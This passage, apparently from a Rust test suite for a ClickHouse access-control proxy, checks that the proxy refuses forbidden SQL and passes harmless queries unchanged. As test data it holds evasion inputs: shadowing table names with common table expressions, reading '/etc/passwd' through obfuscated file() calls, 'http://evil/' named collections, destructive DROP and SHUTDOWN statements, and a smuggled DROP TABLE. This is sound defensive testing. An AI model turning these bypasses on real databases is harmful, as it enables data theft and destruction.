    ("ASTTransactionControl", "SET TRANSACTION SNAPSHOT 1", "effect-not-allowed"),
    ("ExecuteAsQuery", "EXECUTE AS owner SELECT 1", "effect-not-allowed"),
    ("ExecuteAsQuery", "EXECUTE AS owner", "effect-not-allowed"),
    ("CreateHypotheticalIndexQuery", "CREATE HYPOTHETICAL INDEX i ON events (id) TYPE minmax", "effect-not-allowed"),
    ("DropHypotheticalIndexQuery", "DROP HYPOTHETICAL INDEX i ON events", "effect-not-allowed"),
    ("CreateQuery", "CREATE TEMPORARY TABLE t (x Int8)", "effect-not-allowed"),
    ("KillQueryQuery", "KILL QUERY WHERE 1", "effect-not-allowed"),
    ("KillQueryQuery", "KILL MUTATION WHERE 1", "effect-not-allowed"),
    ("KillQueryQuery", "KILL TRANSACTION WHERE 1", "effect-not-allowed"),
    ("KillQueryQuery", "KILL PART_MOVE_TO_SHARD WHERE 1", "effect-not-allowed"),
    ("InsertQuery", "INSERT INTO events VALUES (1)", "effect-not-allowed"),
    ("InsertQuery", "INSERT INTO FUNCTION null('x Int8') SELECT 1", "effect-not-allowed"),
    ("DeleteQuery", "DELETE FROM events WHERE 1", "effect-not-allowed"),
    ("UpdateQuery", "UPDATE events SET t = 'x' WHERE 1", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events DELETE WHERE 1", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events UPDATE t = 'x' WHERE 1", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events ADD COLUMN x Int8", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events FREEZE", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events FETCH PARTITION 1 FROM '/x'", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events ATTACH PARTITION 1 FROM sec.secret", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events MODIFY TTL now()", "effect-not-allowed"),
    ("CreateQuery", "CREATE TABLE t (x Int8) ENGINE = Memory", "effect-not-allowed"),
    ("CreateQuery", "CREATE TABLE t AS SELECT * FROM sec.secret", "effect-not-allowed"),
    ("CreateQuery", "CREATE VIEW v AS SELECT * FROM sec.secret", "effect-not-allowed"),
    ("CreateQuery", "CREATE MATERIALIZED VIEW v TO t AS SELECT * FROM sec.secret", "effect-not-allowed"),
    ("CreateQuery", "CREATE DATABASE d", "effect-not-allowed"),
    ("CreateQuery", "CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(NULL()) LAYOUT(FLAT()) LIFETIME(0)", "effect-not-allowed"),
    ("CreateQuery", "CREATE OR REPLACE TABLE t (x Int8) ENGINE = Memory", "effect-not-allowed"),
    ("CreateQuery", "REPLACE TABLE t (x Int8) ENGINE = Memory", "effect-not-allowed"),
    ("AttachQuery", "ATTACH TABLE x FROM '/path' (x Int8) ENGINE = MergeTree ORDER BY x", "effect-not-allowed"),
    ("AttachQuery", "ATTACH TABLE x", "effect-not-allowed"),
    ("DetachQuery", "DETACH TABLE events", "effect-not-allowed"),
    ("DetachQuery", "DETACH TABLE events PERMANENTLY", "effect-not-allowed"),
    ("DropQuery", "DROP TABLE events", "effect-not-allowed"),
    ("DropQuery", "DROP DATABASE sec", "effect-not-allowed"),
    ("DropQuery", "DROP VIEW v", "effect-not-allowed"),
    ("DropQuery", "DROP DICTIONARY d", "effect-not-allowed"),
    ("TruncateQuery", "TRUNCATE TABLE events", "effect-not-allowed"),
    ("TruncateQuery", "TRUNCATE DATABASE sec", "effect-not-allowed"),
    ("UndropQuery", "UNDROP TABLE events", "effect-not-allowed"),
    ("Rename", "RENAME TABLE events TO x", "effect-not-allowed"),
    ("Rename", "EXCHANGE TABLES events AND sec.secret", "effect-not-allowed"),
    ("OptimizeQuery", "OPTIMIZE TABLE events FINAL", "effect-not-allowed"),
    ("CreateIndexQuery", "CREATE INDEX i ON events (id) TYPE minmax", "effect-not-allowed"),
    ("DropIndexQuery", "DROP INDEX i ON events", "effect-not-allowed"),
    ("CreateSQLFunctionQuery", "CREATE FUNCTION f AS x -> (SELECT s FROM sec.secret)", "effect-not-allowed"),
    ("DropFunctionQuery", "DROP FUNCTION f", "effect-not-allowed"),
    ("CreateNamedCollectionQuery", "CREATE NAMED COLLECTION c AS url = 'http://evil/'", "effect-not-allowed"),
    ("AlterNamedCollectionQuery", "ALTER NAMED COLLECTION c SET url = 'http://evil/'", "effect-not-allowed"),
    ("DropNamedCollectionQuery", "DROP NAMED COLLECTION c", "effect-not-allowed"),
    ("CreateWorkloadQuery", "CREATE WORKLOAD w", "effect-not-allowed"),
    ("DropWorkloadQuery", "DROP WORKLOAD w", "effect-not-allowed"),
    ("CreateResourceQuery", "CREATE RESOURCE r (MASTER THREAD)", "effect-not-allowed"),
    ("BackupQuery", "BACKUP TABLE events TO File('b.zip')", "effect-not-allowed"),
    ("BackupQuery", "BACKUP ALL TO Disk('d', 'b.zip')", "effect-not-allowed"),
    ("RestoreQuery", "RESTORE TABLE events FROM File('b.zip')", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM FLUSH LOGS", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM RELOAD DICTIONARY d", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM SHUTDOWN", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM STOP MERGES events", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM DROP DNS CACHE", "effect-not-allowed"),
    ("ParallelWithQuery", "DROP TABLE a PARALLEL WITH DROP TABLE b", "effect-not-allowed"),
    ("CreateUserQuery", "CREATE USER mallory", "effect-not-allowed"),
    ("CreateUserQuery", "ALTER USER analyst IDENTIFIED BY 'x'", "effect-not-allowed"),
    ("CreateRoleQuery", "CREATE ROLE r", "effect-not-allowed"),
    ("CreateQuotaQuery", "CREATE QUOTA q", "effect-not-allowed"),
    ("CreateSettingsProfileQuery", "CREATE SETTINGS PROFILE p", "effect-not-allowed"),
    ("CREATE ROW POLICY or ALTER ROW POLICY query", "CREATE ROW POLICY p ON events USING 1", "effect-not-allowed"),
    ("CREATE MASKING POLICY or ALTER MASKING POLICY query", "CREATE MASKING POLICY p ON events UPDATE t = 'x'", "effect-not-allowed"),
    ("DROP USER query", "DROP USER analyst", "effect-not-allowed"),
    ("DROP ROLE query", "DROP ROLE r", "effect-not-allowed"),
    ("DROP ROW POLICY query", "DROP ROW POLICY p ON events", "effect-not-allowed"),
    ("DROP QUOTA query", "DROP QUOTA q", "effect-not-allowed"),
    ("DROP SETTINGS PROFILE query", "DROP SETTINGS PROFILE p", "effect-not-allowed"),
    ("GrantQuery", "GRANT SELECT ON *.* TO analyst", "effect-not-allowed"),
    ("GrantQuery", "GRANT admin TO analyst", "effect-not-allowed"),
    ("GrantQuery", "REVOKE SELECT ON *.* FROM analyst", "effect-not-allowed"),
    ("MOVE USER query", "MOVE USER analyst TO local_directory", "effect-not-allowed"),
    ("CreateTokenQuery", "CREATE TOKEN", "effect-not-allowed"),
    ("CopyQuery", "COPY events TO stdout", "effect-not-allowed"),
    ("CopyQuery", "COPY events FROM stdin", "effect-not-allowed"),
    ("CreateHandlerQuery", "CREATE HANDLER h URL '/x' AS SELECT s FROM sec.secret", "effect-not-allowed"),
    ("DropHandlerQuery", "DROP HANDLER h", "effect-not-allowed"),
    ("SnapshotQuery", "SNAPSHOT TABLE events TO File('b.zip')", "effect-not-allowed"),
    ("", "CREATE RULE r AS (SELECT 1) REWRITE TO (SELECT s FROM sec.secret)", "not-understood"),
    ("", "WATCH events", "not-understood"),
    ("", "CREATE LIVE VIEW v AS SELECT 1", "not-understood"),
    ("", "CREATE WINDOW VIEW v AS SELECT 1", "not-understood"),
    ("", "CALL f()", "not-understood"),
    ("", "VALUES (1)", "not-understood"),
    ("", "TABLE events", "not-understood"),
    ("", "MERGE INTO events USING sec.secret ON 1", "not-understood"),
    ("", "PREPARE p AS SELECT 1", "not-understood"),
    ("", "DECLARE x", "not-understood"),
];

#[tokio::test]
async fn no_kind_of_statement_is_let_through_but_reads_of_what_is_allowed() {
    let scene = Scene::begin().await;
    let token = scene.token("analysts");
    let attacks = KINDS.iter().map(|&(kind, sql, reason)| {
        let status = if reason == "not-understood" { 400 } else { 403 };
        Attack { number: 129, request: post("/", &token, sql).into(), status, reason, says: "", kind }
    });
    scene.refuses(attacks.collect()).await;
}

/// 75: names of common table expressions that a server of some version takes for the table; `sec` is the current database.
const SHADOWS: &[&str] = &[
    "WITH secret AS (SELECT s FROM secret) SELECT * FROM secret",
    "WITH secret AS (SELECT * FROM (SELECT s FROM secret)) SELECT * FROM secret",
    "WITH secret AS (SELECT 1 IN secret) SELECT * FROM secret",
    "WITH secret AS (SELECT 1 UNION ALL SELECT s FROM secret) SELECT * FROM secret",
    "WITH RECURSIVE secret AS (SELECT s FROM secret) SELECT * FROM secret",
    "WITH RECURSIVE secret AS (SELECT s FROM secret UNION ALL SELECT s FROM secret) SELECT * FROM secret",
    "WITH RECURSIVE secret AS ((SELECT s FROM secret) UNION ALL SELECT 'x') SELECT * FROM secret",
    "WITH z AS (SELECT s FROM secret), secret AS (SELECT 'x' AS s) SELECT * FROM z",
    "WITH secret AS (SELECT 'x' AS s), secret AS (SELECT s FROM secret) SELECT * FROM secret",
    "WITH secret AS (SELECT 'x' AS s), secret AS (SELECT 'y' AS s) SELECT * FROM secret",
    "WITH secret AS (SELECT s FROM z), z AS (SELECT s FROM secret) SELECT * FROM z",
    "WITH secret AS (SELECT s FROM z), z AS (SELECT s FROM secret) SELECT * FROM secret",
    "WITH secret AS (SELECT 'x' AS s) SELECT * FROM (WITH secret AS (SELECT s FROM secret) SELECT * FROM secret)",
    "WITH z AS (SELECT s FROM secret) SELECT * FROM (WITH secret AS (SELECT 'x' AS s) SELECT s FROM z)",
    "WITH secret AS (SELECT 'x' AS s), z AS (SELECT s FROM secret) SELECT * FROM (WITH secret AS (SELECT s FROM z) SELECT s FROM z)",
    "WITH secret AS (SELECT s FROM z) SELECT * FROM (WITH z AS (SELECT s FROM secret) SELECT s FROM secret)",
    "SELECT * FROM (WITH secret AS (SELECT 'x' AS s) SELECT * FROM secret), secret",
    "SELECT (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret), s FROM secret",
    "WITH z AS (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) SELECT * FROM z, secret",
    "WITH z AS (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) SELECT 'x' IN secret FROM z",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret UNION ALL WITH 1 AS k SELECT s FROM secret",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret UNION ALL WITH z AS (SELECT 1) SELECT s FROM secret UNION ALL SELECT 'y'",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret EXCEPT (WITH 1 AS k SELECT s FROM secret)",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret INTERSECT WITH 1 AS k SELECT 'x' WHERE 'x' IN secret",
    "(WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) UNION ALL SELECT s FROM secret",
    "((WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret)) UNION ALL SELECT s FROM secret",
    "(WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret UNION ALL SELECT 'y') UNION ALL SELECT s FROM secret",
    "((WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) EXCEPT SELECT 'y') UNION ALL SELECT s FROM secret",
    "SELECT s FROM secret UNION ALL WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret",
    "SELECT 'y' UNION ALL WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret UNION ALL SELECT s FROM secret",
    "SELECT 'y' UNION ALL (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) UNION ALL SELECT s FROM secret",
    "SELECT 'y' |> UNION ALL (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) |> JOIN secret ON 1",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM `secret` UNION ALL WITH 1 AS k SELECT s FROM 'secret'",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM sec.secret",
    "WITH secret AS (SELECT 'x' AS s) SELECT 'x' IN sec.secret",
    "WITH Secret AS (SELECT 'x' AS s) SELECT s FROM secret",
    "WITH `secret ` AS (SELECT 'x' AS s) SELECT s FROM secret",
    "WITH (SELECT 'x') AS secret SELECT s FROM secret",
    "WITH 1 AS secret SELECT s FROM secret",
    "WITH x -> 1 AS secret SELECT s FROM secret",
    "SELECT 1 AS secret FROM secret",
    "SELECT * FROM default.events AS secret JOIN secret AS x ON 1",
    "SELECT * FROM default.events AS secret WHERE 1 IN (SELECT s FROM secret)",
    "SELECT 'x' IN secret FROM default.events AS secret",
    "WITH secret AS (SELECT 'x' AS s) SELECT * FROM numbers((WITH 1 AS k SELECT count() FROM sec.secret))",
    "WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n FROM x), secret AS (SELECT s FROM secret) SELECT * FROM x, secret",
    "WITH secret AS MATERIALIZED (SELECT s FROM secret) SELECT * FROM secret",
    "WITH secret(s) AS (SELECT s FROM secret) SELECT * FROM secret",
    "EXPLAIN WITH secret AS (SELECT s FROM secret) SELECT * FROM secret",
    "DESCRIBE (WITH secret AS (SELECT s FROM secret) SELECT * FROM secret)",
    "DESCRIBE secret",
];

/// The same, where the name stands within a call.
const SHADOWS_IN_CALLS: &[(&str, &str, &str)] = &[
    ("SELECT * FROM view(SELECT s FROM secret)", "table-function-not-allowed", "view"),
    ("SELECT * FROM numbers(1), view(SELECT s FROM secret)", "table-function-not-allowed", "view"),
    ("SELECT * FROM viewIfPermitted(SELECT s FROM secret ELSE null('s String'))", "table-function-not-allowed", "null"),
    ("SELECT * FROM viewExplain('', '', (SELECT s FROM secret))", "table-function-not-allowed", "viewExplain"),
    ("SELECT * FROM (EXPLAIN SELECT s FROM secret)", "table-function-not-allowed", "viewExplain"),
    ("SELECT * FROM loop(secret)", "table-function-not-allowed", "loop"),
    ("SELECT * FROM loop(view(SELECT s FROM secret))", "table-function-not-allowed", "loop"),
    ("SELECT * FROM merge('^secret$')", "table-function-not-allowed", "merge"),
    ("SELECT * FROM remote('127.0.0.1', view(SELECT s FROM secret))", "table-function-not-allowed", "remote"),
    ("SELECT * FROM values('s String', ((SELECT s FROM secret)))", "table-function-not-allowed", "values"),
    ("SELECT * FROM secret(1)", "table-function-not-allowed", "secret"),
    ("SELECT arrayReduce('groupConcat((SELECT s FROM secret))', ['x', 'y'])", "computed-name", "function in a string"),
    ("SELECT s FROM secret SETTINGS filter = 's IN (SELECT s FROM secret)'", "setting-not-allowed", "filter"),
    ("SELECT s SETTINGS implicit_table_at_top_level = 'secret'", "setting-not-allowed", "implicit_table_at_top_level"),
];

#[tokio::test]
async fn a_denied_table_closes_what_is_about_its_whole_database() {
    let scene = Scene::begin().await;
    let refused = WHOLE_DATABASES.iter().filter_map(|&(sql, why)| why.map(|(reason, says)| (78, sql, 403, reason, says)));
    scene.refuses(scene.by_body("auditors", &refused.collect::<Vec<_>>())).await;
    let permitted = WHOLE_DATABASES.iter().filter(|(_, why)| why.is_none()).map(|&(sql, _)| sql);
    let rows: Vec<_> = permitted.map(|sql| ("/", sql, sql, &[][..])).collect();
    scene.permits("auditors", &rows).await;
}

#[tokio::test]
async fn no_common_table_expression_hides_a_table() {
    let scene = Scene::begin().await;
    let (status, reason, says) = NAMES_IT;
    let mut attacks = scene.by_address("analysts", &SHADOWS.iter().map(|&sql| (75, "/?database=sec", sql, status, reason, says)).collect::<Vec<_>>());
    let in_calls = SHADOWS_IN_CALLS.iter().map(|&(sql, reason, says)| (format!("WITH secret AS (SELECT 'x' AS s) {sql}"), reason, says));
    let in_calls: Vec<_> = in_calls.collect();
    let rows: Vec<_> = in_calls.iter().map(|(sql, reason, says)| (75, "/?database=sec", sql.as_str(), 403, *reason, *says)).collect();
    attacks.extend(scene.by_address("analysts", &rows));
    scene.refuses(attacks).await;
}

/// 124, 151, 152: SQL in strings, and functions that are called by their bare names.
const CALLS: &[ByBody<'_>] = &[
    (151, "SELECT arrayReduce('groupConcat((SELECT s FROM sec.secret))', ['x', 'y'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce('groupConcatIf((SELECT s FROM sec.secret))', ['x'], [1])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce($$groupConcat((SELECT s FROM sec.secret))$$, ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce(concat('groupConcat(', '1)'), ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce('groupConcat(file(''x''))', ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce({p:String}, ['x'])", 403, "computed-name", "function in a string"),
    (151, "WITH 'groupConcat((SELECT s FROM sec.secret))' AS f SELECT arrayReduce(f, ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduceInRanges('groupConcat((SELECT s FROM sec.secret))', [(1, 1)], ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT initializeAggregation('groupConcat((SELECT s FROM sec.secret))', 'x')", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce()('groupConcat((SELECT s FROM sec.secret))', ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce('unheardOf', ['x'])", 403, "function-not-allowed", "unheardOf"),
    (151, "EXPLAIN SELECT arrayReduce('groupConcat((SELECT s FROM sec.secret))', ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT * FROM values('s String', ((SELECT s FROM sec.secret)))", 403, "table-function-not-allowed", "values"),
    (151, "SELECT * FROM (VALUES ((SELECT s FROM sec.secret)))", 403, "table-function-not-allowed", "SQLStandardValues"),
    (
        152,
        "SELECT * FROM generateRandom('a String ALIAS arrayReduce(''groupConcat((SELECT s FROM sec.secret))'', [''x''])')",
        403,
        "computed-name",
        "structure",
    ),
    (152, "SELECT * FROM generateRandom('a UInt8', (SELECT id FROM sec.secret))", 403, "table-function-not-allowed", "generateRandom"),
    (152, "SELECT * FROM null('a UInt8 DEFAULT file(''x'')')", 403, "computed-name", "structure"),
    (152, "SELECT * FROM null(concat('a', ' UInt8'))", 403, "computed-name", "structure"),
    (124, "SELECT arrayMap(`file`, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap((file), ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap(((`file`)), ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap(file AS f, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap((file AS f), ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (121, "SELECT currentRequestURL", 403, "function-not-allowed", "currentRequestURL"),
    (121, "SELECT currentHandler", 403, "function-not-allowed", "currentHandler"),
    (124, r"SELECT arrayMap(`fil\x65`, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayFilter(file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (121, "SELECT arrayFilter(throwIf, [1])", 403, "function-not-allowed", "throwIf"),
    (121, "SELECT arrayMap(logTrace, ['x'])", 403, "function-not-allowed", "logTrace"),
    (63, "SELECT (1, 'x') IN +sec.secret", 403, "table-not-allowed", "sec.secret"),
];

#[tokio::test]
async fn no_call_runs_what_it_does_not_show() {
    let scene = Scene::begin().await;
    let mut attacks = scene.by_body("analysts", CALLS);
    attacks.extend(scene.by_address(
        "analysts",
        &[
            (
                151,
                "/?param_p=groupConcat((SELECT s FROM sec.secret))",
                "SELECT arrayReduce({p:String}, ['x'])",
                403,
                "computed-name",
                "function in a string",
            ),
            (124, "/?param_f=file", "SELECT arrayMap({f:Identifier}, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
            (124, "/?param_f=file", "SELECT * APPLY({f:Identifier}) FROM events", 400, "not-understood", ""),
        ],
    ));
    scene.refuses(attacks).await;
}

/// What is asked, and what ClickHouse gets: the address, the body, the text, the parameters of the statement.
type Permitted<'a> = (&'a str, &'a str, &'a str, &'a [(&'a str, &'a str)]);

impl Scene {
    /// Sends each, and looks at the answer and at the one request that the upstream saw; all that is wrong is told at once.
    async fn permits(&self, group: &str, rows: &[Permitted<'_>]) {
        let token = self.token(group);
        let mut wrong = String::new();
        for (address, body, text, parameters) in rows {
            let before = self.recorder.requests().len();
            let answer = send(&self.house, post(&encoded(address), &token, body)).await;
            let heard = self.recorder.requests().split_off(before);
            let said: Vec<_> = heard.iter().map(|one| (one.text(), parameters_of(one))).collect();
            let expected = vec![((*text).to_owned(), parameters.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect())];
            if answer.status != 200 || said != expected {
                writeln!(wrong, "{address} | {body}\n   came {} {} {said:?}\n   want {expected:?}", answer.status, answer.text().trim_end()).unwrap();
            }
        }
        assert!(wrong.is_empty(), "{wrong}");
    }
}

/// The parameters of the statement, and the database where it is another than the user's.
fn parameters_of(heard: &Heard) -> Vec<(String, String)> {
    let kept = |(name, value): &(String, String)| name.starts_with("param_") || (name == "database" && value != "default");
    heard.parameters().into_iter().filter(kept).collect()
}

/// The texts of the attacks with an allowed table in place of the forbidden one, and others that are harmless.
const HARMLESS: &[Permitted<'_>] = &[
    ("/", r"SELECT '\' || ' , (SELECT t FROM events) -- '", r"SELECT '\' || ' , (SELECT t FROM events)", &[]),
    ("/", "SELECT $x$ ' $x$, (SELECT t FROM events), $$ -- $$", "SELECT ' \\' ', (SELECT t FROM events), ' -- '", &[]),
    ("/", "SELECT ‘ ' ’, (SELECT t FROM events), ‘ ' ’", "SELECT ' \\' ', (SELECT t FROM events), ' \\' '", &[]),
    ("/", "SELECT 1, /* /* */ ' */ (SELECT t FROM events) /* /* ' -- */ */\n AS x", "SELECT 1, (SELECT t FROM events)\nAS x", &[]),
    ("/", "SELECT 1 # '\n, (SELECT t FROM events) // '\n", "SELECT 1\n, (SELECT t FROM events)", &[]),
    ("/", "SELECT 1 /*!50000 UNION ALL SELECT s FROM sec.secret */", "SELECT 1", &[]),
    ("/", "SELECT 1 --\r, (SELECT s FROM sec.secret)", "SELECT 1", &[]),
    ("/", "SELECT 1 --\u{2028}, (SELECT s FROM sec.secret)", "SELECT 1", &[]),
    ("/", "SELECT ' , (SELECT s FROM sec.secret) '", "SELECT ' , (SELECT s FROM sec.secret) '", &[]),
    ("/", "SELECT $a$(SELECT s FROM sec.secret)$a$", "SELECT '(SELECT s FROM sec.secret)'", &[]),
    ("/", r"SELECT * FROM default.`ev\x65nts`", "SELECT * FROM default.`events`", &[]),
    ("/", "SELECT * FROM “default”.“events”", "SELECT * FROM `default`.`events`", &[]),
    ("/", "SELECT * FROM default /* x */ . -- y\n events", "SELECT * FROM default .\nevents", &[]),
    ("/", "SELECT\u{a0}*\u{3000}FROM\u{200b}events", "SELECT * FROM events", &[]),
    ("/", "\u{feff}SELECT 1", "SELECT 1", &[]),
    ("/", "SELECT 1;;", "SELECT 1", &[]),
    ("/", "SELECT 1; -- x\n ; /* y */", "SELECT 1", &[]),
    ("/", "((FROM events))", "((FROM events))", &[]),
    ("/", "SELECT 1_000, 1\u{2212}1, x'41', b'01000001'", "SELECT 1000, 1-1, 'A', 'A'", &[]),
    ("/", "SELECT -/**/-1, - -1", "SELECT - -1, - -1", &[]),
    ("/", "SELECT * FROM 'events'", "SELECT * FROM 'events'", &[]),
    ("/", "WITH secret AS (SELECT 1 AS x) SELECT * FROM secret", "WITH secret AS (SELECT 1 AS x) SELECT * FROM secret", &[]),
    (
        "/?database=sec",
        "WITH secret AS (SELECT 1 AS x) SELECT x IN secret, (SELECT x FROM secret) FROM secret UNION ALL SELECT x FROM secret",
        "WITH secret AS (SELECT 1 AS x) SELECT x IN secret, (SELECT x FROM secret) FROM secret UNION ALL SELECT x FROM secret",
        &[("database", "sec")],
    ),
    ("/?database=sec", "SELECT * FROM default.events", "SELECT * FROM default.events", &[("database", "sec")]),
    ("/?query=SELECT 1 --", "FROM events", "SELECT 1\nFROM events", &[]),
    ("/?query=SELECT %2A", "FROM events", "SELECT *\nFROM events", &[]),
    ("/?param_t=events", "SELECT * FROM {t:Identifier}", "SELECT * FROM `events`", &[]),
    ("/?param_d=default&param_t=events", "SELECT * FROM {d:Identifier}.{t : Identifier}", "SELECT * FROM `default`.`events`", &[]),
    ("/?param_x=it's \\x41%09", "SELECT {x:String}", "SELECT {x:String}", &[("param_x", "it's \\x41\t")]),
    ("/?param_x=(SELECT s FROM sec.secret)", "SELECT {x:String}", "SELECT {x:String}", &[("param_x", "(SELECT s FROM sec.secret)")]),
    ("/?param_x=1&param_unused=2", "SELECT {x:UInt8}", "SELECT {x:UInt8}", &[("param_x", "1")]),
    ("/?param_c=x` , (SELECT s FROM sec.secret) AS `y", "SELECT 1 AS {c:Identifier}", r"SELECT 1 AS `x\` , (SELECT s FROM sec.secret) AS \`y`", &[]),
    ("/?param_c=x\\", "SELECT 1 AS {c:Identifier}", r"SELECT 1 AS `x\\`", &[]),
    ("/", r"SELECT 1 AS `x\` , (SELECT s FROM sec.secret) AS \`y`", r"SELECT 1 AS `x\` , (SELECT s FROM sec.secret) AS \`y`", &[]),
    ("/", "FROM events |> WHERE id > 1 |> SELECT id", "FROM events |> WHERE id > 1 |> SELECT id", &[]),
    ("/", "FROM events SELECT id", "FROM events SELECT id", &[]),
    ("/", "EXPLAIN SELECT * FROM events", "EXPLAIN SELECT * FROM events", &[]),
    ("/", "EXPLAIN PIPELINE graph = 1 SELECT * FROM events", "EXPLAIN PIPELINE graph = 1 SELECT * FROM events", &[]),
    ("/", "DESCRIBE TABLE events", "DESCRIBE TABLE events", &[]),
    ("/", "EXISTS events", "EXISTS events", &[]),
    ("/", "SHOW CREATE TABLE default.events", "SHOW CREATE TABLE default.events", &[]),
    (
        "/",
        "SELECT * FROM events FORMAT JSON SETTINGS output_format_json_quote_64bit_integers=1",
        "SELECT * FROM events FORMAT JSON SETTINGS output_format_json_quote_64bit_integers=1",
        &[],
    ),
    ("/", "SELECT * FROM events WHERE (id, t) IN events", "SELECT * FROM events WHERE (id, t) IN events", &[]),
    ("/", "SELECT arrayReduce('quantile(0.5)', [1])", "SELECT arrayReduce('quantile(0.5)', [1])", &[]),
    ("/", "SELECT arrayMap(x -> x + 1, [1]) FROM numbers(3)", "SELECT arrayMap(x -> x + 1, [1]) FROM numbers(3)", &[]),
    ("/", "SELECT select, `from` FROM events", "SELECT select, `from` FROM events", &[]),
];

#[tokio::test]
async fn what_is_harmless_when_read_rightly_goes_as_exactly_one_request() {
    let scene = Scene::begin().await;
    scene.permits("analysts", HARMLESS).await;
    // 60: what ClickHouse bounds itself costs no stack here.
    let long = [("NOT ", "1"), ("- ", "1"), ("1 + ", "1"), ("1 AND ", "1"), ("x -> ", "1"), ("'x' || ", "''"), ("1 UNION ALL SELECT ", "1")];
    let long = long.map(|(again, last)| format!("SELECT {}{last}", again.repeat(10_000)));
    scene.permits("analysts", &long.each_ref().map(|sql| ("/", sql.as_str(), sql.as_str(), &[][..]))).await;
}

/// What drivers ask for when they connect.
const PROBES: &[&str] = &[
    "SELECT 1",
    "SELECT version(), timezone()",
    "SELECT name, value, readonly FROM system.settings LIMIT 10000",
    "SELECT 1 AS check",
    "SELECT displayName(), version(), revision(), timezone()",
    "SELECT currentUser() AS user, timezone() AS timezone, version() AS version LIMIT 1",
    "SHOW DATABASES",
    "SHOW TABLES",
    "SHOW SETTINGS LIKE 'max_%'",
    "SHOW CHANGED SETTINGS ILIKE 'max_%'",
    "SHOW SETTING max_threads",
    "SHOW FUNCTIONS",
    "SHOW ENGINES",
    "DESC TABLE events",
    "SELECT name, database FROM system.tables WHERE database = 'default'",
    "SELECT name, type FROM system.columns WHERE table = 'events'",
    "SELECT name FROM system.databases",
    "SELECT name, is_aggregate FROM system.functions",
    "SELECT currentDatabase()",
];

#[tokio::test]
async fn what_clients_ask_when_they_connect_is_permitted() {
    let scene = Scene::begin().await;
    let address = "/?client_protocol_version=54405";
    scene.permits("clients", &PROBES.iter().map(|&sql| (address, sql, sql, &[][..])).collect::<Vec<_>>()).await;
}

/// 149: data is no code, for ClickHouse is told so.
const INSERTS: &[Permitted<'_>] = &[
    ("/", "INSERT INTO events VALUES (1, (SELECT s FROM sec.secret))", "INSERT INTO events VALUES (1, (SELECT s FROM sec.secret))", &[]),
    ("/?query=INSERT INTO events FORMAT Values", "(1, file('/etc/passwd'))", "INSERT INTO events FORMAT Values\n(1, file('/etc/passwd'))", &[]),
    (
        "/",
        "insert /* x */ into  `events` (id, \"t\") values -- y\n (1, '\\x41') , $$ \u{a0}\r\n; DROP TABLE events",
        "insert into `events` (id, `t`) values -- y\n (1, '\\x41') , $$ \u{a0}\r\n; DROP TABLE events",
        &[],
    ),
    ("/", "INSERT INTO events FORMAT CSV\r\n1,\"it''s\"\r\n\r\n", "INSERT INTO events FORMAT CSV\r\n1,\"it''s\"\r\n\r\n", &[]),
    ("/", "INSERT INTO events FORMAT JSONEachRow {\"id\": 1} -- ' /*", "INSERT INTO events FORMAT JSONEachRow {\"id\": 1} -- ' /*", &[]),
    ("/?param_t=events", "INSERT INTO {t:Identifier} VALUES ({t:Identifier})", "INSERT INTO `events` VALUES ({t:Identifier})", &[]),
    ("/", "INSERT INTO events SELECT id, t FROM events -- x\n", "INSERT INTO events SELECT id, t FROM events", &[]),
    ("/", "WITH x AS (SELECT 1) INSERT INTO events SELECT * FROM x", "WITH x AS (SELECT 1) INSERT INTO events SELECT * FROM x", &[]),
];

#[tokio::test]
async fn an_insert_goes_on_byte_for_byte_with_settings_that_keep_its_data_from_running() {
    let scene = Scene::begin().await;
    scene.permits("engineers", INSERTS).await;
    for heard in scene.recorder.requests() {
